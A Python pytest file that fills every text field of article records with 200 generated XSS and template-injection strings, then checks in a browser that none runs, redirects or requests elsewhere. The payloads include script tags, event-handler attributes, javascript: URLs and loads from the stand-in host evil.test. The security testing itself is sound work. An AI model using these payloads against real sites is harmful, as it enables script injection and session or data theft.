"""Two hundred strings that try to run script, in every field that a text can fill: none runs, none makes a request, all are shown as text."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product
from pathlib import Path

import pytest

from depeche.record import Actor, Agreement, Article, ArticleRecord, Event, Figure, Place, Position, Quote, Side, Span, Term, When, entry_id
from desk_browser import Watched
from desk_record import opened, written

TAGS = (
    "<script>alert({n})</script>",
    "<script src=http://evil.test/{n}.js></script>",
    "<img src=x onerror=alert({n})>",
    "<img src=http://evil.test/{n}.png>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<a href=javascript:alert({n})>x</a>",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<style>@import 'http://evil.test/{n}.css';</style>",
    "<link rel=stylesheet href=http://evil.test/{n}.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/{n}'>",
    "<base href=http://evil.test/{n}/>",
    "<form action=http://evil.test/{n}><input autofocus onfocus=alert({n})></form>",
    "<object data=http://evil.test/{n}></object>",
    "<video><source onerror=alert({n})></video>",
    "<math><mtext></table></math><img src onerror=alert({n})>",
    "<div hx-get=http://evil.test/{n} hx-trigger=load hx-on:load=alert({n})></div>",
    "<input onfocus=alert({n}) autofocus>",
    "<template><script>alert({n})</script></template><img src=/x onerror=alert({n})>",
    "<p style=background:url(http://evil.test/{n})>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<!--><img src=x onerror=alert({n})>-->",
)
WAYS_OUT = ("", '"', "'", '">', "'>", "</title>", "</textarea></script>", "{{{{ 7*{n} }}}}{{% x %}}${{7*{n}}}")
STRINGS = [(way + tag).format(n=n) for n, (way, tag) in enumerate(islice(product(WAYS_OUT, TAGS), 200))]
A_RECORD = 8


def test_there_are_two_hundred() -> None:
    assert len(set(STRINGS)) == 200


def hostile(some: list[str], number: int) -> ArticleRecord:
    """A record that holds strings in every field which a text can fill."""
    title = " ".join(some)
    article = Article("\n".join(some), title, f"2024-06-{1 + number % 28:02}", "fr", title, title, f"javascript:{title}")
    spans, at = [], 0
    for words in some:
        spans.append(Span(at, at + len(words)))
        at += len(words) + 1
    actors, places, events, quotes, pacts, figures = [], [], [], [], [], []
    for words, span in zip(some, spans, strict=True):
        one, other = (
            Actor(entry_id(article, letter, span.start), words + end, "person", None, "GOV", words, f"<{words}", (span,))
            for letter, end in (("a", ""), ("b", " 2"))
        )
        place = Place(entry_id(article, "p", span.start), words, None, 48.0 + number, 2.0 + number, (span,))
        figure = Figure(entry_id(article, "f", span.start), 1.0, None, False, None, words, "dead", (one.id,), span)
        when = When("2024-06-01", "2024-06-02", span)
        sides = (Side("source", one.id, span, words), Side("target", other.id, span, words))
        positions = (Position(one.id, "alleges", span), Position(other.id, "denies", span))
        act = ("ASSAULT", None, (), None, span, (), span, (one.id,), (other.id,), sides, place.id, when, None, False)
        events.append(Event(entry_id(article, "e", span.start), *act, "alleged", positions, (figure.id,), words))
        said = ((span,), "direct", one.id, (other.id,), span, span, other.id, (other.id,), when, True, "reported", words)
        quotes.append(Quote(entry_id(article, "q", span.start), *said))
        term = Term("assist", (one.id,), (other.id,), "aggression_against_party", words, words, span)
        agreement = (words, "mutual_defence", (one.id, other.id), "signed", {"signed": when}, "2024-06-01", place.id, (term,), (span,))
        pacts.append(Agreement(entry_id(article, "g", span.start), *agreement))
        actors += [one, other]
        places.append(place)
        figures.append(figure)
    return ArticleRecord(article, tuple(actors), tuple(places), tuple(events), tuple(quotes), tuple(pacts), tuple(figures))


@pytest.fixture(scope="module")
def records() -> list[ArticleRecord]:
    return [hostile(STRINGS[i : i + A_RECORD], i // A_RECORD) for i in range(0, len(STRINGS), A_RECORD)]


@pytest.fixture(scope="module")
def desk(records: list[ArticleRecord], tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    path: Path = written(tmp_path_factory.mktemp("hostile") / "record.sqlite", records)
    with opened(path) as address:
        yield address


def test_no_list_runs_a_string_or_asks_elsewhere(page: Watched, desk: str) -> None:
    for view in ("timeline", "disputed", "said", "pacts", "articles", "relations?pairs=300", "map"):
        shown = page.open(f"{desk}/{view}{'&' if '?' in view else '?'}limit=200")
        shown.wait_for_load_state("networkidle")
        assert shown.url.startswith(desk)
        words = shown.inner_text("main")
        assert sum(tag in words for tag in ("<script>alert(0)</script>", "<img src=x onerror=alert(2)>")) == 2 or view.startswith(("relations", "map")), view


def test_no_article_runs_a_string_or_asks_elsewhere(page: Watched, desk: str, records: list[ArticleRecord]) -> None:
    for number, record in enumerate(records):
        me = record.article.id[7:19]
        kinds = (record.events, record.quotes, record.agreements, record.actors, record.places)
        for entry in (kinds[number % 5][number % A_RECORD], kinds[(number + 2) % 5][(number + 3) % A_RECORD]):
            shown = page.open(f"{desk}/articles/{me}?entry={entry.id}")
            assert shown.url.startswith(desk)
        assert shown.locator(".text > p").all_inner_texts() == STRINGS[number * A_RECORD : (number + 1) * A_RECORD]
        page.open(f"{desk}/affairs/{record.events[5].id}")


def test_no_address_runs_what_it_holds(page: Watched, desk: str) -> None:
    for words in STRINGS[::16]:
        shown = page.open(f"{desk}/timeline")
        shown.fill("#search", words[:200])
        shown.press("#search", "Enter")
        expect_here = shown.url
        assert expect_here.startswith(desk)
    from urllib.parse import quote

    for words in STRINGS[3::24]:
        for address in (f"timeline?actor={quote(words)}", f"said?actor={quote(words)}", f"articles/{quote(words, safe='')}", quote(words)):
            assert page.open(f"{desk}/{address}").url.startswith(desk)
